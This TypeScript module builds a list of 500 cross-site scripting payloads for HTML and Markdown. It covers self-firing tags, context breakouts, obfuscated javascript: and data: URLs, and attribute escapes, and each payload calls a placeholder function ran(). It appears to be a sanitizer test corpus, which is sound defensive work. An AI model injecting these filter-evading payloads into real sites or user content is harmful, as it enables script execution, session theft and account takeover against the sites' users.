// 500 ways to make a page run a script, made from tags, events, encodings, contexts and Markdown; each would call ran().

/** How many there are. */
export const total = 500;

const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
];

/** Elements that fire an event without being asked, and with which attributes. */
const selfFiring = [
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<input autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>',
  '<video src=x onerror=ran()>',
  '<video><source onerror=ran()>',
  '<audio src=x onerror=ran()>',
  '<iframe onload=ran()></iframe>',
  '<object data=x onerror=ran()></object>',
  '<body onload=ran()>',
  '<style onload=ran()>a{}</style>',
  '<link rel=stylesheet href=data:, onload=ran()>',
  '<script>ran()</script>',
  '<marquee onstart=ran()>x</marquee>',
  '<select autofocus onfocus=ran()>',
];

const tags = [
  'a',
  'b',
  'img',
  'svg',
  'math',
  'form',
  'button',
  'input',
  'iframe',
  'object',
  'embed',
  'video',
  'p',
  'x-y',
];

/** Out of whatever surrounds it. */
const contexts: ((payload: string) => string)[] = [
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `--><!---->${payload}`,
  (payload) => `]]>${payload}`,
  (payload) => `</title>${payload}`,
  (payload) => `</textarea>${payload}`,
  (payload) => `</script>${payload}`,
  (payload) => `</noscript>${payload}`,
  (payload) => `<noscript><p title="</noscript>${payload}">`,
  (payload) => `<math><mtext><table><mglyph><style>${payload}`,
  (payload) => `<svg></p><style><a id="</style>${payload}">`,
  (payload) => `<template>${payload}</template>`,
  (payload) => `<!--><b>${payload}-->`,
  (payload) => `&lt;b&gt;${payload}`,
  (payload) => `\`\`\`\n</code></pre>${payload}\n\`\`\``,
  (payload) => `\`${payload}\``,
  (payload) => `> ${payload}`,
  (payload) => `- ${payload}`,
  (payload) => `# ${payload}`,
  (payload) => `**${payload}**`,
  (payload) => `{{${payload}}}`,
  (payload) => `[${payload}](https://a.example)`,
];

const entity = (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');
const hex = (text: string) => [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)}`).join(';');
const percent = (text: string) =>
  [...text].map((letter) => `%${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

/** The same script address, written so that a filter may miss it. */
const addresses = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  ' javascript:ran()',
  'java\tscript:ran()',
  'java\nscript:ran()',
  'javascript&colon;ran()',
  'javascript&#58;ran&lpar;&rpar;',
  entity('javascript:ran()'),
  hex('javascript:ran()'),
  percent('javascript:ran()'),
  'javascript://x%0aran()',
  'vbscript:ran()',
  'data:text/html,<script>ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="ran()"/>',
  '//elsewhere.example/x',
  'https://elsewhere.example/x.png',
  'feed:javascript:ran()',
  'view-source:javascript:ran()',
  '\\x6aavascript:ran()',
];

/** Where an address may stand: HTML and Markdown. */
const places: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href=${address}>x`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<img src="${address}" srcset="${address} 2x">`,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `[x](${address} "title" )`,
  (address) => `![x](${address})`,
  (address) => `[![x](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]\n\n[x]: ${address}`,
  (address) => `![x]\n\n[x]: ${address} 'onerror=ran()'`,
  (address) => `[x" onmouseover="ran()](${address})`,
];

/** Titles and labels that try to leave their attribute. */
const attributes = [
  '[x](https://a.example "\\" onmouseover=ran() x=\\"")',
  "[x](https://a.example ' onmouseover=ran() ')",
  '[x](https://a.example/"onmouseover="ran())',
  '![" onerror="ran()](x)',
  '![x](x"onerror="ran())',
  '" onerror="ran()',
  "' onerror='ran()",
  '" autofocus onfocus="ran()" x="',
  '` onerror=ran() `',
  '" style="animation-name:x" onanimationstart="ran()',
];

function all(): Set<string> {
  const made = new Set<string>([...selfFiring, ...attributes]);
  for (const [n, context] of contexts.entries()) {
    for (const offset of [0, 1, 3, 5, 12, 13]) {
      made.add(context(selfFiring[(n + offset) % selfFiring.length] ?? ''));
    }
  }
  for (const [n, place] of places.entries()) {
    for (const [m, address] of addresses.entries()) {
      if ((n + m) % 2 === 0) made.add(place(address));
    }
  }
  for (const tag of tags) {
    for (const event of events) {
      made.add(`<${tag} ${event}=ran() ${event === 'onfocus' ? 'autofocus' : 'src=x'}>x</${tag}>`);
      made.add(`<${tag}/${event.toUpperCase()}\n=\n"ran&lpar;)"\tsrc=x style=animation-name:x>`);
      made.add(`<<${tag}>${tag} x='>' ${event}='ran()'`);
    }
  }
  return made;
}

/** They: always the same, no two alike. */
export const payloads: readonly string[] = [...all()].slice(0, total);
